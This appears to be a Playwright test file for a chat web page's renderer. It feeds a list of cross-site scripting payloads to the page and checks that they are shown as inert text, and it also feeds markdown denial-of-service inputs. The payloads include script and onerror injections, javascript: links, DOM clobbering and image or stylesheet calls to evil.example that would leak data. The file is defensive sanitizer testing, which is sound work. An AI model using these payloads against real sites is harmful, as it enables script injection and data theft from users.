"""Answers that attack the page: nothing runs, nothing is fetched, the policy has nothing to report.

ChatPage.close() asserts it for every page. SPDX-License-Identifier: Apache-2.0
"""

import time

import pytest

from playwright.sync_api import expect
from stub_server import Reply

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "svg": "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="javascript:alert(1)"></object>',
    "form": '<form action="javascript:alert(1)"><button id=send>x</button><input name=body></form>',
    "style": "<style>*{display:none}</style><p style='background:url(http://evil.example/)'>x</p>",
    "link element": '<link rel=stylesheet href="http://evil.example/x.css"><base href="http://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "script link": "[click](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
    "odd schemes": "[d](data:text/html,<script>alert(1)</script>) [v](vbscript:x) [f](file:///etc/passwd) [b](blob:x)",
    "quote in address": '[x](http://a.example/"onmouseover="alert(1)) ![x](http://a.example/"onerror="alert(1))',
    "foreign picture": "![a](http://evil.example/?secret) ![b](//evil.example/x) ![c](/v1/models)",
    "svg picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "title": '[x](http://a.example "t\\" onclick=\\"alert(1)")',
    "language": '```"><img src=x onerror=alert(1)>\ncode\n```',
    "code": "```html\n</code></pre><script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "thoughts": "<think><img src=x onerror=alert(1)></think><script>alert(1)</script>",
    "split tags": "<b><i><script>al</b>ert(1)</script><br/onclick=alert(1)><u onclick=alert(1)>x</u>",
    "reference": "[x][r] ![y][r]\n\n[r]: javascript:alert(1)",
    "clobbering": '<a id=composer></a><a name=transcript></a><img name=getElementById>',
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_shown_as_text(stub, open_page, name):
    text = ATTACKS[name]
    stub.replies = [Reply([text[at:at + 7] for at in range(0, len(text), 7)])]
    chat = open_page(stub.url)
    chat.ask(text)
    inside = chat.page.locator("#transcript")
    assert inside.locator("script, style, iframe, object, embed, form, input, link, meta, base, math, noscript").count() == 0
    assert inside.locator("article :is(svg:not(.icon), [id], [name], [style])").count() == 0
    for link in inside.locator("a[href]").all():
        assert link.get_attribute("href").startswith(("http://", "https://", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        link.hover()
    for image in inside.locator("article img").all():
        assert image.get_attribute("src").startswith("data:image/png")
    assert inside.evaluate("""root => [...root.querySelectorAll("*")].every(
        element => [...element.attributes].every(attribute => !attribute.name.startsWith("on")))""")
    assert chat.page.locator("#composer").is_visible()


BOMBS = {
    "one long line": "word " * 60_000,
    "no blank": "a" * 300_000,
    "brackets": "[" * 50_000,
    "pictures": "![" * 30_000,
    "stars": "*a " * 20_000,
    "odd stars": "**x*y" * 8_000,
    "underscores": "_" * 40_000 + "a",
    "ticks": "`" * 20_001 + " a " + "`" * 20_000,
    "quotes": ">" * 20_000 + "x",
    "nested list": "\n".join(" " * (2 * i) + "- x" for i in range(400)),
    "nested quotes": "\n".join("> " * i + "x" for i in range(300)),
    "wide table": "|a" * 3000 + "|\n" + "|-" * 3000 + "|\n" + "|b" * 3000 + "|",
    "tall table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 5000,
    "entities": "&#x1F600;" * 5000,
    "links": "[a](b" * 10_000,
    "references": "[a]: x\n" * 5000 + "[a]" * 5000,
    "tags": "<b>" * 20_000,
    "comments": "<!--" * 20_000,
    "code": "```js\n" + "x = {a: [1, '2', /3/]};\n" * 6000 + "```",
    "many blocks": "# h\n\np\n\n" * 2000,
    "spaces": " " * 100_000 + "x",
    "combining": "a" + "\u0301" * 10_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_leaves_the_page_usable(stub, open_page, name):
    text = BOMBS[name]
    stub.replies = [Reply([text[at:at + 20_000] for at in range(0, len(text), 20_000)]), Reply(["Still here."])]
    chat = open_page(stub.url)
    started = time.monotonic()
    chat.ask("Go")
    chat.ask("Are you there?")
    assert chat.answer_text.strip() == "Still here."
    assert time.monotonic() - started < 30
    assert chat.page.evaluate("document.getElementById('scroller').scrollWidth <= innerWidth")
    expect(chat.page.locator("#text")).to_be_focused()
